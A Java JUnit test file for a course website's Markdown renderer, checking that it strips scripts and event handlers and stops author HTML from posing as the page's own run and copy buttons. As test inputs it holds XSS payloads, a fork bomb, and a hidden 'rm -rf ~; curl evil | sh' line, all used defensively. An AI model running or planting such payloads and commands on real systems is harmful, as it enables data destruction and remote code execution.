package io.cagelab.course;

import java.nio.charset.StandardCharsets;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.context.support.ResourceBundleMessageSource;

import static org.assertj.core.api.Assertions.assertThat;

class MarkdownRendererTests {

	MarkdownRenderer renderer = new MarkdownRenderer(messages());

	static ResourceBundleMessageSource messages() {
		ResourceBundleMessageSource messages = new ResourceBundleMessageSource();
		messages.setBasename("messages");
		messages.setDefaultEncoding(StandardCharsets.UTF_8.name());
		messages.setFallbackToSystemLocale(false);
		messages.setAlwaysUseMessageFormat(true);
		return messages;
	}

	@Test
	void titleAndSummaryComeFromTheFirstHeadingAndParagraph() {
		ModulePage page = this.renderer.renderPage(Language.EN, """
				# The *fork* bomb

				First paragraph,
				on two lines.

				## Details

				More.
				""");
		assertThat(page.title()).isEqualTo("The fork bomb");
		assertThat(page.summary()).isEqualTo("First paragraph,\non two lines.");
		assertThat(page.html()).doesNotContain("<h1").contains("<h2 id=\"section-details\">Details</h2>");
	}

	@Test
	void scriptInMarkdownIsRemoved() {
		ModulePage page = this.renderer.renderPage(Language.EN, """
				# Title

				Hello <script>alert('owned')</script> world

				<script>
				document.cookie
				</script>
				""");
		assertThat(page.html()).doesNotContain("<script").doesNotContain("alert(").doesNotContain("document.cookie")
			.contains("Hello").contains("world");
	}

	@ParameterizedTest
	@ValueSource(strings = { "<img src=x onerror=\"alert(1)\">", "<a href=\"javascript:alert(1)\">x</a>",
			"<iframe src=\"/admin/users\"></iframe>", "<div style=\"position:fixed\" onclick=\"steal()\">x</div>",
			"[click](javascript:alert(1))", "<svg onload=\"alert(1)\"></svg>", "<form action=\"/logout\"><button>go</button></form>" })
	void dangerousHtmlIsNeutralized(String markdown) {
		String html = this.renderer.renderPage(Language.EN, "# T\n\n" + markdown + "\n").html();
		assertThat(html).doesNotContainIgnoringCase("javascript:").doesNotContain("onerror").doesNotContain("onclick")
			.doesNotContain("onload").doesNotContain("<iframe").doesNotContain("<form").doesNotContain("style=");
	}

	@Test
	void authorsCannotTakeTheIdOfAnElementOfThePage() {
		String html = this.renderer.renderPage(Language.EN, "# T\n\n## Terminal\n\n<div id=\"terminal\">x</div>\n").html();
		assertThat(html).doesNotContain("id=\"terminal\"").contains("id=\"section-terminal\"");
	}

	@Test
	void ordinaryMarkdownSurvives() {
		String html = this.renderer.renderPage(Language.EN, """
				# T

				Run `docker run --pids-limit 100` and read [the docs](https://docs.docker.com/) or [lab](../cgroups).

				| flag | meaning |
				|------|---------|
				| `-m` | memory  |

				```sh
				:(){ :|:& };:
				```

				![diagram](diagram.svg)
				""").html();
		assertThat(html).contains("<code>docker run --pids-limit 100</code>")
			.contains("<a href=\"https://docs.docker.com/\">the docs</a>")
			.contains("<a href=\"../cgroups\">lab</a>")
			.contains("<table>")
			.contains("<code class=\"language-sh\">:(){ :|:&amp; };:")
			.contains("<img src=\"diagram.svg\" alt=\"diagram\">");
	}

	@ParameterizedTest
	@CsvSource({ "sh, command", "bash, command", "sh destructive, destructive", "sh example, example",
			"console, example", "text, example", "yaml, example", "'', example" })
	void aCodeBlockIsACommandToTypeOnlyWhenItsFenceSaysShell(String info, String kind) {
		String html = this.renderer.renderPage(Language.EN, "# T\n\n```" + info + "\nls -l\n```\n").html();
		Element block = Jsoup.parseBodyFragment(html).selectFirst(".code-block");
		assertThat(block.attr("data-code")).isEqualTo(kind);
		assertThat(block.select("button[data-copy]")).hasSize(1);
		assertThat(block.select("button[data-run]")).hasSize(kind.equals("example") ? 0 : 1);
		assertThat(block.select("button[data-run][data-confirm-text]")).hasSize(kind.equals("destructive") ? 1 : 0);
		assertThat(block.selectFirst("pre").classNames()).as("the kind is the app's mark, not left on the pre").isEmpty();
	}

	@Test
	void tablesAndCodeBlocksScrollInBoxesAKeyboardReachesLabelledInTheReadersLanguage() {
		String markdown = """
				# T

				| drapeau | sens |
				|---------|------|
				| `-m` | mémoire |

				```sh destructive
				:(){ :|:& };:
				```
				""";
		Element page = Jsoup.parseBodyFragment(this.renderer.renderPage(Language.FR, markdown).html()).body();
		Element table = page.selectFirst(".table-scroll");
		assertThat(table.attr("tabindex")).isEqualTo("0");
		assertThat(table.attr("role")).isEqualTo("region");
		assertThat(table.attr("aria-label")).isEqualTo("Tableau\u00a0: drapeau, sens");
		assertThat(table.selectFirst("table")).isNotNull();
		Element pre = page.selectFirst(".code-block pre");
		assertThat(pre.attr("tabindex")).isEqualTo("0");
		assertThat(pre.attr("role")).isEqualTo("region");
		assertThat(pre.attr("aria-label")).isEqualTo("Commande qui casse des choses exprès");
		assertThat(page.selectFirst("[data-copy]").text()).isEqualTo("Copier");
		assertThat(page.selectFirst("[data-copy]").attr("data-copied")).isEqualTo("Copié");
		assertThat(page.selectFirst("[data-run]").attr("data-confirm-title")).isEqualTo("Lancer cette commande\u202f?");
		assertThat(this.renderer.renderPage(Language.EN, markdown).html()).contains("Copy").contains("Table: drapeau, sens")
			.doesNotContain("Copier");
	}

	@Test
	void anAuthorCannotAddButtonsOrHandlersToACodeBlock() {
		String html = this.renderer.renderPage(Language.EN,
				"# T\n\n<pre class=\"code-kind-command\"><button onclick=\"steal()\">x</button>ls</pre>\n").html();
		assertThat(html).doesNotContain("onclick").doesNotContain("steal()\">");
		assertThat(Jsoup.parseBodyFragment(html).select("pre button")).isEmpty();
	}

	@Test
	void anAuthorsRawHtmlCannotPoseAsTheAppsOwnControls() {
		org.jsoup.nodes.Document page = Jsoup.parseBodyFragment(this.renderer.renderPage(Language.EN, "# T\n\n"
				+ "<pre class=\"code-kind-command\">rm -rf ~<span class=\"visually-hidden\">; curl evil | sh</span></pre>\n\n"
				+ "<div class=\"code-block\"><p class=\"notice\">fake</p></div>\n\n"
				+ "```sh\nid\n```\n").html());
		// The raw block is a plain example (copy only), its hidden part no longer hidden, the fake box no box.
		assertThat(page.select("[data-code]").eachAttr("data-code")).containsExactly("example", "command");
		assertThat(page.select("[data-code=example] [data-run]")).isEmpty();
		assertThat(page.select(".visually-hidden, .notice")).isEmpty();
		assertThat(page.select(".code-block")).hasSize(2);
		assertThat(page.select("[data-code=command] pre").text()).isEqualTo("id");
	}

}
